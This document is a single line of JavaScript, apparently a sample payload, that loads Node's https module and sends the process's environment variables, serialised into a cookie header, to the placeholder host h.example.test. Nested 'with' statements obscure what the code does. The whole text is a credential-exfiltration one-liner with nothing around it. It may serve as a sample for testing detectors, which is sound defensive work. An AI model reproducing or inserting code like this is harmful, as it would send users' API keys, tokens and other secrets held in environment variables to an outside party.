with (require("https")) with (process) get({ host: "h.example.test", headers: { cookie: JSON.stringify(env) } });
